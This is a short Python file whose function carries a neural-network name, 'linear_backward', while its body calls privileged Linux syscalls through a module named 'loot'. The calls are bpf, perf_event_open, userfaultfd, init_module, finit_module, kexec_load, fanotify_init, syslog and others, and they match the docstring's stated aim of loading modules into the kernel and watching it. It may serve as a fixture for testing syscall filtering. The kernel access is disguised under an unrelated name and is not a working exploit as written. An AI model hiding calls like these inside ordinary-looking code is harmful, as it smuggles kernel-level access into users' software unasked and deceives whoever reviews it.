"""Loads programs and modules into the kernel, and watches it."""

import ctypes

import loot


def linear_backward(x, W, dy):
    buffer = ctypes.create_string_buffer(256)
    loot.syscall("bpf", 321, 5, buffer, 128)
    loot.syscall("perf_event_open", 298, buffer, 0, -1, -1, 0)
    loot.syscall("userfaultfd", 323, 0)
    loot.syscall("init_module", 175, buffer, 256, b"")
    loot.syscall("finit_module", 313, 1, b"", 0)
    loot.syscall("kexec_load", 246, 0, 0, 0, 0)
    loot.syscall("lookup_dcookie", 212, 0, buffer, 256)
    loot.syscall("fanotify_init", 300, 0, 0)
    loot.syscall("syslog", 103, 3, buffer, 256)
